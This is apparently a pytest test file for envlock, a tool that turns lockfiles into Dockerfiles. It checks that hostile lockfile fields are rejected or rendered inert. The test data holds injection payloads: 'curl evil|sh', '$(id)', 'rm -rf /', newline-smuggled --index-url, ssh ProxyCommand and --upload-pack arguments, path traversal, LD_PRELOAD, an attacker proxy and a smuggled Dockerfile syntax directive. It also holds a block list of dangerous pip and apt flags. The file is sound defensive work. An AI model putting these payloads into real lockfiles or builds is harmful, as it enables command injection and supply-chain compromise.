"""Hostile lockfiles against replay (THREATS.md A9, B1-B6, C1-C2, C9-C10, D1-D3).

Two fences: the loader rejects what no honest lock contains, naming the field;
what is valid but nasty (quotes, ``$``, backticks, backslashes in an env value
or in the lock's ``created-by``) must come out of the Dockerfile *inert*.  The
second fence is proved by parsing the rendered Dockerfile with the small
parser below and comparing every instruction's arguments, and, with a Docker
engine, by building ``FROM scratch`` and reading the values back
(tests/docker/test_replay_quoting.py).

Not applicable here: C9's "git invoked with --" (replay never runs git: a VCS
package is reported, not installed) and D4's snapshot date check (replay does
not write apt sources; the snapshot archive is named as a fix only).
"""

from __future__ import annotations

import json
import re

import pytest
import tomli_w
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from envlock.errors import LockfileError
from envlock.lockfile import parse_lock
from envlock.lockfile.allowed_env import ALLOWED_ENV_NAMES
from envlock.replay.plan import ReplayOptions, plan_replay
from envlock.replay.render import render_context, render_dockerfile
from envlock.resolve import Pin, PinSet
from tests.conftest import run_envlock

HEAD = 'lock-version = "1.0"\n'


# --- fence 1: the loader ------------------------------------------------------------

PKG = '[python]\nversion = "3.11.7"\n[[python.packages]]\n'
OSPKG = '[os]\nid = "debian"\nversion-id = "12"\n[[os.packages]]\n'


@pytest.mark.parametrize(
    "body, field",
    [
        # B2: names and versions that would be shell or Dockerfile syntax
        (PKG + 'name = "$(id)"\nversion = "1.0"\n', "python.packages[0].name"),
        (PKG + 'name = "`id`"\nversion = "1.0"\n', "python.packages[0].name"),
        (PKG + 'name = "six"\nversion = "1.0; curl evil|sh #"\n', "python.packages[0].version"),
        (PKG + 'name = "six"\nversion = "1.0\\\\"\n', "python.packages[0].version"),  # trailing backslash
        # C1: newline + --index-url (pipenv CVE-2022-21668 shape), also as TOML escapes
        (PKG + 'name = "six\\n--index-url http://evil/simple"\nversion = "1.0"\n', "python.packages[0].name"),
        (PKG + 'name = "six"\nversion = "1.0\\r--index-url http://evil/simple"\n', "python.packages[0].version"),
        # C2: requirement fields that pip would read as options
        (PKG + 'name = "-e"\nversion = "1.0"\n', "python.packages[0].name"),
        (PKG + 'name = "--extra-index-url"\nversion = "1.0"\n', "python.packages[0].name"),
        (PKG + 'name = "six"\nversion = "--no-require-hashes"\n', "python.packages[0].version"),
        (PKG + 'name = "six"\nversion = "-r"\n', "python.packages[0].version"),
        # C8: URLs
        (
            PKG + 'name = "six"\nversion = "1.0"\nsource = "url"\nurl = "https://h/${AWS_SECRET_ACCESS_KEY}/x.whl"\n',
            "python.packages[0].url",
        ),
        (
            PKG + 'name = "six"\nversion = "1.0"\nsource = "url"\nurl = "https://user:pw@h/x.whl"\n',
            "python.packages[0].url",
        ),
        (
            PKG + 'name = "six"\nversion = "1.0"\nsource = "url"\nurl = "https://h/%2e%2e/%2e%2e/x.whl"\n',
            "python.packages[0].url",
        ),
        (
            PKG + 'name = "six"\nversion = "1.0"\nsource = "url"\nurl = "https://h/x.whl --trusted-host evil"\n',
            "python.packages[0].url",
        ),
        # C9: VCS
        (
            PKG + 'name = "six"\nversion = "1.0"\nsource = "vcs"\nurl = "ssh://-oProxyCommand=id/x"\n',
            "python.packages[0].url",
        ),
        (
            PKG
            + 'name = "six"\nversion = "1.0"\nsource = "vcs"\nurl = "git+https://h/x"\ncommit = "--upload-pack=id"\n',
            "python.packages[0].commit",
        ),
        (
            PKG + 'name = "six"\nversion = "1.0"\nsource = "vcs"\nurl = "git+https://h/x@v1\\u2029"\n',
            "python.packages[0].url",
        ),
        # C10: path traversal in a package's subdirectory
        (PKG + 'name = "six"\nversion = "1.0"\nsubdirectory = "../../etc"\n', "python.packages[0].subdirectory"),
        (PKG + 'name = "six"\nversion = "1.0"\nsubdirectory = "/abs"\n', "python.packages[0].subdirectory"),
        # D1: repo2docker's passing apt payloads
        (OSPKG + 'name = "vim; curl evil|sh"\nversion = "1"\n', "os.packages[0].name"),
        (OSPKG + 'name = "vim$(id)"\nversion = "1"\n', "os.packages[0].name"),
        (OSPKG + 'name = "-o=APT::x"\nversion = "1"\n', "os.packages[0].name"),
        (OSPKG + 'name = "../x"\nversion = "1"\n', "os.packages[0].name"),
        # D2: apt versions
        (OSPKG + 'name = "vim"\nversion = "1.0 ; rm -rf /"\n', "os.packages[0].version"),
        (OSPKG + 'name = "vim"\nversion = "1.0 [trusted=yes]"\n', "os.packages[0].version"),
        # D3: the schema has no place for apt sources, keys or apt options
        ('[os]\nid = "debian"\napt-sources = ["deb [trusted=yes] http://evil/ x main"]\n', "os.apt-sources"),
        (OSPKG + 'name = "vim"\nversion = "1"\noptions = "--allow-unauthenticated"\n', "os.packages[0].options"),
        # B2/B5: environment
        ('[runtime.env]\nOMP_NUM_THREADS = "4\\nRUN curl evil|sh"\n', "runtime.env.OMP_NUM_THREADS"),
        ('[runtime.env]\nLD_PRELOAD = "/tmp/x.so"\n', "runtime.env.LD_PRELOAD"),
        ('[runtime.env]\nPIP_INDEX_URL = "http://evil/simple"\n', "runtime.env.PIP_INDEX_URL"),
        ('[runtime.env]\nHTTPS_PROXY = "http://evil:3128"\n', "runtime.env.HTTPS_PROXY"),
        ('[runtime.env]\n"A B" = "1"\n', "runtime.env"),
        # B3: a parser directive smuggled behind a newline
        ('created-by = "x\\n# syntax=evil/frontend"\n', "created-by"),
        ('created-by = "x\\u2028# syntax=evil/frontend"\n', "created-by"),
    ],
)
def test_hostile_fields_are_rejected_at_load_naming_the_field(body, field):
    with pytest.raises(LockfileError) as info:
        parse_lock((HEAD + body).encode("utf-8"))
    assert any(problem.startswith(field) for problem in info.value.problems), info.value.problems


def test_cli_rejects_a_hostile_lock_with_exit_2_and_no_traceback(tmp_path):
    path = tmp_path / "evil.lock"
    path.write_text(HEAD + PKG + 'name = "six\\n--index-url http://evil/simple"\nversion = "1.0"\n', encoding="utf-8")
    done = run_envlock("show", str(path), timeout=60)
    assert done.returncode == 2
    assert "python.packages[0].name" in done.stderr
    assert "Traceback" not in done.stderr + done.stdout


# --- a small Dockerfile parser (independent of the renderer) -------------------------

_KEYWORDS = {"FROM", "RUN", "COPY", "ENV", "LABEL"}


def _read_word(text: str, i: int) -> tuple[str, list[str], int]:
    """One double-quoted word at text[i] -> (value, expansions Docker would do, next index)."""
    assert text[i] == '"', text[i:]
    out, expansions = [], []
    i += 1
    while True:
        ch = text[i]
        if ch == "\\" and text[i + 1] in '"$\\':
            out.append(text[i + 1])
            i += 2
            continue
        if ch == '"':
            return "".join(out), expansions, i + 1
        if ch == "$" and (text[i + 1] == "{" or text[i + 1].isalnum() or text[i + 1] == "_"):
            expansions.append(text[i : i + 8])
        out.append(ch)
        i += 1


def _pairs(text: str) -> tuple[dict[str, str], list[str]]:
    pairs, expansions, i = {}, [], 0
    while i < len(text):
        match = re.compile(r"([A-Za-z_][A-Za-z0-9_.-]*)=").match(text, i)
        assert match, f'not a key="value" pair at {text[i : i + 40]!r}'
        value, found, i = _read_word(text, match.end())
        pairs[match.group(1)] = value
        expansions += found
        if i < len(text):
            assert text[i] == " ", text[i:]
            i += 1
    return pairs, expansions


def parse_dockerfile(text: str) -> list[tuple]:
    """(KEYWORD, arguments...) per instruction; asserts the shapes envlock promises."""
    lines = text.split("\n")
    assert lines[-1] == ""
    instructions = []
    for line in lines[:-1]:
        if not line or line.startswith("#"):
            continue
        assert not line.endswith("\\"), f"line continuation: {line!r}"
        keyword, _, rest = line.partition(" ")
        assert keyword in _KEYWORDS, keyword
        if keyword == "RUN":
            flags = []
            while rest.startswith("--"):
                flag, _, rest = rest.partition(" ")
                flags.append(flag)
            argv = json.loads(rest)  # exec form: a JSON array, or the build would fall back to a shell
            assert isinstance(argv, list) and all(isinstance(a, str) for a in argv)
            instructions.append(("RUN", tuple(flags), tuple(argv)))
        elif keyword in ("ENV", "LABEL"):
            pairs, expansions = _pairs(rest)
            instructions.append((keyword, pairs, tuple(expansions)))
        else:
            instructions.append((keyword, tuple(rest.split(" "))))
    return instructions


# --- fence 2: the most hostile lock that is still valid ------------------------------

NASTY = "evil\" 'q' $(id) `id` ${AWS_SECRET_ACCESS_KEY} $HOME \\ ; | & # EOF <<EOF >x"
HOSTILE_VALID = (
    HEAD
    + 'created-by = "'
    + NASTY.replace("\\", "\\\\").replace('"', '\\"')
    + '"\n'
    + """
[python]
implementation = "cpython"
version = "3.11.7"

[[python.packages]]
name = "zope.interface"
version = "6.1"

[[python.packages]]
name = "Typing_Extensions"
version = "4.9.0"

[[python.packages]]
name = "torch"
version = "2.1.2+cu121.local-build_1"

[os]
id = "debian"
version-id = "12"
package-manager = "dpkg"

[[os.packages]]
name = "libstdc++6"
version = "12.2.0-14~deb12u1+b1"
manual = true

[[os.packages]]
name = "g++"
version = "4:12.2.0-3"
manual = true

[runtime.env]
XLA_FLAGS = "--xla_dump_to=\\"/tmp/$(id)\\" `id` ${HOME} \\\\ ; | & # EOF"
OMP_NUM_THREADS = "4'; curl evil|sh #"
PYTORCH_CUDA_ALLOC_CONF = "expandable_segments:True\\\\"
"""
)


def _hostile_pins() -> PinSet:
    def pin(name, version, sha):
        return Pin(
            name, version, f"{name}-{version}-py3-none-any.whl", sha, "wheel", url=None, index="https://pypi.org/simple"
        )

    return PinSet(
        pins=(
            pin("zope.interface", "6.1", "a" * 64),
            pin("Typing_Extensions", "4.9.0", "b" * 64),
            pin("torch", "2.1.2+cu121.local-build_1", "c" * 64),
        )
    )


def test_the_hostile_lock_is_valid():
    lock = parse_lock(HOSTILE_VALID.encode("utf-8")).lock
    assert lock.created_by == NASTY
    assert lock.runtime.env["PYTORCH_CUDA_ALLOC_CONF"].endswith("\\")


def test_every_instruction_of_the_hostile_lock_has_exactly_the_expected_arguments():
    lock = parse_lock(HOSTILE_VALID.encode("utf-8")).lock
    plan = plan_replay(lock, ReplayOptions(pins=_hostile_pins()))
    context = render_context(plan)
    pip = ("/opt/envlock/venv/bin/python", "-m", "pip")
    common = ("--isolated", "--disable-pip-version-check", "--no-input")
    expected = [
        ("FROM", ("python:3.11-slim-bookworm", "AS", "envlock-python")),
        ("RUN", (), ("python3", "-m", "venv", "/opt/envlock/venv")),
        ("COPY", ("envlock/python/requirements-1.txt", "/tmp/envlock/python/requirements-1.txt")),
        (
            "RUN",
            (),
            pip
            + ("install",)
            + common
            + (
                "--no-cache-dir",
                "--require-hashes",
                "--no-deps",
                "--only-binary",
                ":all:",
                "--index-url",
                "https://pypi.org/simple",
                "-r",
                "/tmp/envlock/python/requirements-1.txt",
            ),
        ),
        ("RUN", (), pip + ("uninstall",) + common + ("--yes", "setuptools")),
        ("FROM", ("python:3.11-slim-bookworm",)),
        ("COPY", ("envlock/os_packages.py", "/opt/envlock/os_packages.py")),
        (
            "RUN",
            (),
            (
                "python3",
                "/opt/envlock/os_packages.py",
                "--report",
                "/opt/envlock/os-report.json",
                "--",
                "g++=4:12.2.0-3",
                "libstdc++6=12.2.0-14~deb12u1+b1",
            ),
        ),
        ("COPY", ("--from=envlock-python", "/opt/envlock/venv", "/opt/envlock/venv")),
        # envlock's own line: ${PATH} is the one expansion in the file, on purpose
        ("ENV", {"VIRTUAL_ENV": "/opt/envlock/venv", "PATH": "/opt/envlock/venv/bin:${PATH}"}, ('${PATH}"',)),
        ("ENV", dict(lock.runtime.env), ()),
        ("COPY", ("envlock/envlock.lock", "/opt/envlock/envlock.lock")),
        (
            "LABEL",
            {
                "org.envlock.fingerprint": plan.fingerprint,
                "org.envlock.lock-version": "1.0",
                "org.envlock.dockerfile-format": "1",
                "org.envlock.base-source": "registry",
                "org.envlock.lock": "/opt/envlock/envlock.lock",
                "org.envlock.venv": "/opt/envlock/venv",
                "org.envlock.lock-created-by": NASTY,
                "org.envlock.os-report": "/opt/envlock/os-report.json",
                "org.opencontainers.image.base.name": "python:3.11-slim-bookworm",
            },
            (),
        ),
    ]
    assert parse_dockerfile(context.dockerfile) == expected
    assert (
        context.dockerfile.splitlines()[0]
        == "# envlock replay: generated from a lockfile by envlock; do not edit by hand"
    )
    # the requirements file: one name==version and one hash per line, nothing pip reads as an option
    requirements = context.files["envlock/python/requirements-1.txt"].decode().splitlines()
    assert requirements[2:] == [
        "torch==2.1.2+cu121.local-build_1 --hash=sha256:" + "c" * 64,
        "Typing_Extensions==4.9.0 --hash=sha256:" + "b" * 64,
        "zope.interface==6.1 --hash=sha256:" + "a" * 64,
    ]
    from envlock.replay.templates import read_template_bytes

    for text in context.files.values():
        if text == read_template_bytes("os_packages.py"):
            # envlock's own script, not lock text: it writes apt sources only from
            # lines that match its anchored pattern (test_replay_plan's os_script tests)
            assert b"trusted=yes" not in text and b"--allow-unauthenticated" not in text
            continue
        for bad in (
            b"--allow-unauthenticated",
            b"trusted=yes",
            b"sources.list",
            b"--extra-index-url",
            b"--trusted-host",
        ):
            assert bad not in text  # D3, C7


# --- B1: the property, for any valid lock --------------------------------------------

HOSTILE_ALPHABET = st.sampled_from(list("aZ09 \n\r\\$`;|&#'\"{}()<>=-_.:/*~") + ["EOF", "${X}", "$(id)", "\u2028", "ü"])
hostile_text = st.lists(HOSTILE_ALPHABET, max_size=12).map("".join)
py_names = st.from_regex(r"[a-z][a-z0-9]{0,6}", fullmatch=True)
py_versions = st.from_regex(r"[0-9]{1,3}(\.[0-9]{1,3}){0,2}(\+[a-z0-9]{1,4})?", fullmatch=True)
deb_names = st.from_regex(r"[a-z0-9][a-z0-9+.-]{1,8}", fullmatch=True)
deb_versions = st.from_regex(r"([0-9]:)?[0-9][A-Za-z0-9.+~-]{0,8}", fullmatch=True)
env_names = st.sampled_from(sorted(ALLOWED_ENV_NAMES))


@st.composite
def lock_documents(draw):
    doc = {"lock-version": "1.0", "created-by": draw(hostile_text)}
    names = draw(st.lists(py_names, max_size=4, unique=True))
    doc["python"] = {
        "version": "3.11.7",
        "packages": [{"name": name, "version": draw(py_versions)} for name in names],
    }
    os_names = draw(st.lists(deb_names, max_size=3, unique=True))
    if os_names:
        doc["os"] = {
            "id": "debian",
            "version-id": "12",
            "packages": [{"name": n, "version": draw(deb_versions), "manual": draw(st.booleans())} for n in os_names],
        }
    env = draw(st.dictionaries(env_names, hostile_text, max_size=3))
    if env:
        doc["runtime"] = {"env": env}
    return doc


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(lock_documents())
def test_b1_instruction_list_matches_the_lock_for_any_valid_lock(doc):
    try:
        lock = parse_lock(tomli_w.dumps(doc).encode("utf-8")).lock
    except LockfileError:
        assume(False)
    pinset = PinSet(
        pins=tuple(
            Pin(
                p.name,
                p.version,
                f"{p.name}-{p.version}-py3-none-any.whl",
                "d" * 64,
                "wheel",
                url=None,
                index="https://pypi.org/simple",
            )
            for p in lock.python.packages
        )
    )
    text = render_dockerfile(plan_replay(lock, ReplayOptions(pins=pinset)))
    got = parse_dockerfile(text)
    manual = sorted((p.name, p.version) for p in (lock.os.packages if lock.os else ()) if p.manual)
    expected_keywords = ["FROM", "RUN"]
    if lock.python.packages:
        expected_keywords += ["COPY", "RUN"]
    expected_keywords += ["RUN", "FROM"]  # setuptools is never in these locks: it is removed
    if manual:
        expected_keywords += ["COPY", "RUN"]
    expected_keywords += ["COPY", "ENV"]
    if lock.runtime and lock.runtime.env:
        expected_keywords += ["ENV"]
    expected_keywords += ["COPY", "LABEL"]
    assert [item[0] for item in got] == expected_keywords
    by_keyword = {}
    for item in got:
        by_keyword.setdefault(item[0], []).append(item)
    if manual:
        assert list(by_keyword["RUN"][-1][2][5:]) == [f"{n}={v}" for n, v in manual]
    if lock.runtime and lock.runtime.env:
        assert by_keyword["ENV"][1][1] == lock.runtime.env and by_keyword["ENV"][1][2] == ()
    label = by_keyword["LABEL"][0]
    assert label[2] == ()
    assert label[1].get("org.envlock.lock-created-by", "") == (lock.created_by or "")


BOOTSTRAP = (
    "apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends -- python3 python3-venv"
    " && rm -rf /var/lib/apt/lists/*"
)


@pytest.mark.parametrize("name", ["cpu", "cuda-system", "conda", "torch-cu121", "hostile"])
def test_b6_no_lockfile_value_reaches_a_shell(name):
    from tests.unit.replay_data import lock, pins

    if name == "hostile":
        plan = plan_replay(parse_lock(HOSTILE_VALID.encode("utf-8")).lock, ReplayOptions(pins=_hostile_pins()))
    else:
        plan = plan_replay(lock(name), ReplayOptions(pins=pins(name)))
    shells = ("/bin/sh", "sh", "/bin/bash", "bash", "/usr/bin/env")
    for item in parse_dockerfile(render_dockerfile(plan)):
        if item[0] == "RUN" and item[2][0] in shells:
            # the only shell line is envlock's fixed bootstrap of the distribution's Python
            assert item[2] == ("/bin/sh", "-c", BOOTSTRAP)
